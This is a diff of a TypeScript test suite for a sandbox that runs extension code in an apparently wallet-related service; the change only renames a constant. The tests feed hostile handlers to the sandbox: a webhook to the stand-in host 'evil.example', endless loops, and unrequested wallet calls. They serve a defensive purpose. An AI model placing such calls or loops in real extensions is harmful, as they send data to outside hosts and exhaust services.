@@ -111,13 +111,13 @@ describe.each(DIALECTS)('the code of a package, on %s', (dialect) => {
 
 describe('code that means harm', () => {
   const one = (handle: string) => `routes: { 'GET /public/:id/do': { async handle(request, ctx) { ${handle} } } }`
-  const public_ = { routes: { 'GET /public/:id/do': route('public') } }
+  const PUBLIC = { routes: { 'GET /public/:id/do': route('public') } }
 
   test('has no call that its manifest does not ask for', async () => {
     const source =
       one(`return { json: [typeof ctx.pay, typeof ctx.http, typeof ctx.wallets, typeof ctx.nostr, typeof ctx.notify,
       typeof ctx.chain, typeof ctx.ask] }`)
-    const { world, make } = await open(source, public_)
+    const { world, make } = await open(source, PUBLIC)
     expect((await world.call('GET', `/shop/public/${await make()}/do`)).body).toEqual(
       Array.from({ length: 7 }, () => 'undefined'),
     )
@@ -139,7 +139,7 @@ describe('code that means harm', () => {
       if (item.seen === undefined) { await ctx.items.update(item.id, { seen: item.wallet }); return { json: 'kept' } }
       const { paymentRequest } = await ctx.wallets.createInvoice(item.seen, { sat: 1, itemId: item.id })
       return { json: paymentRequest }`)
-    const { world, make } = await open(source, public_, { permissions: [permission('receive')] })
+    const { world, make } = await open(source, PUBLIC, { permissions: [permission('receive')] })
     const id = await make()
     expect((await world.call('GET', `/shop/public/${id}/do`)).body).toBe('kept')
     expect((await world.call('GET', `/shop/public/${id}/do`)).status).toBe(500)
@@ -165,7 +165,7 @@ describe('code that means harm', () => {
     ['nothing', `return undefined`],
     ['another thing', `return { json: 1, page: { title: 'x', blocks: [] } }`],
   ])('cannot answer %s', async (_what, handle) => {
-    const { world, make } = await open(one(handle), public_)
+    const { world, make } = await open(one(handle), PUBLIC)
     const { status, headers, body } = await world.call('GET', `/shop/public/${await make()}/do`)
     expect(status).toBe(500)
     expect(headers['set-cookie']).toBeUndefined()
@@ -174,14 +174,14 @@ describe('code that means harm', () => {
 
   test('sends webhooks to the hosts of its manifest only', async () => {
     const source = one(`await ctx.notify.webhook('https://evil.example/x', 1, {}); return { json: 1 }`)
-    const { world, make } = await open(source, public_, {
+    const { world, make } = await open(source, PUBLIC, {
       permissions: [permission('http', { hosts: ['good.example'] })],
     })
     expect((await world.call('GET', `/shop/public/${await make()}/do`)).status).toBe(500)
   })
 
   test('that runs into limits three times within ten minutes is switched off, until a super user switches it on', async () => {
-    const { world, make, key, govern, adminRow } = await open(one('for (;;);'), public_)
+    const { world, make, key, govern, adminRow } = await open(one('for (;;);'), PUBLIC)
     const id = await make()
     for (let n = 0; n < 3; n += 1) {
       const { status, body, headers } = await world.call('GET', `/shop/public/${id}/do`)
@@ -197,7 +197,7 @@ describe('code that means harm', () => {
 
   test('what a run has written is not there when the run is ended', async () => {
     const source = one(`await ctx.items.update(request.params.id, { seen: 'half' }); for (;;);`)
-    const { world, make, key } = await open(source, public_)
+    const { world, make, key } = await open(source, PUBLIC)
     const id = await make()
     expect((await world.call('GET', `/shop/public/${id}/do`)).status).toBe(503)
     expect((await world.call('GET', `/shop/api/v1/${id}`, { key })).body.seen).toBeUndefined()
@@ -215,7 +215,7 @@ describe('code that means harm', () => {
   })
 
   test('does not run where the operator has switched code off', async () => {
-    const { installed, world, key } = await open(one('return { json: 1 }'), public_, {
+    const { installed, world, key } = await open(one('return { json: 1 }'), PUBLIC, {
       env: { SERVICE_EXTENSION_CODE: 'false' },
     })
     expect([installed.status, installed.body.detail]).toEqual([400, expect.stringContaining('SERVICE_EXTENSION_CODE')])
@@ -223,7 +223,7 @@ describe('code that means harm', () => {
   })
 
   test('what it uses is in the metrics', async () => {
-    const { world, make } = await open(one('return { json: 1 }'), public_)
+    const { world, make } = await open(one('return { json: 1 }'), PUBLIC)
     await world.call('GET', `/shop/public/${await make()}/do`)
     const { body } = await world.call('GET', '/metrics')
     expect(body).toContain('satchel_extension_code_runs_total{extension="shop"} 1')
